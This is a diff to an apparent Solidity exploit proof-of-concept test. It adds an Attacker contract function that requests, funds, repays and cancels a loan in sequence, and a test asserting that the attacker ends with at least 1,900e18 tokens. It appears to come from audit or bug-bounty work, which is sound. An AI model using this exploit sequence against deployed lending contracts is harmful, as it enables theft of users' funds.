@@ -169,6 +169,15 @@ contract Proof {
         require(asset_.balanceOf(address(mallory)) >= 1_900e18, "nothing gained");
     }
 
+    function exploit2() public {
+        mallory.twice();
+    }
+
+    function test_Exploit2() public {
+        exploit2();
+        require(asset_.balanceOf(address(mallory)) >= 1_900e18, "nothing gained");
+    }
+
     function target() public view returns (address) {
         return address(loans);
     }
@@ -189,6 +198,13 @@ contract Attacker {
         loans = l;
         c.approve(address(l), uint256(-1));
         a.approve(address(l), uint256(-1));
+    }
+
+    function twice() external {
+        loans.request(1_000e18, 1, 1, 1 days);
+        loans.fund(1);
+        loans.repay(1);
+        loans.cancel(1);
     }
 
     function open() external {
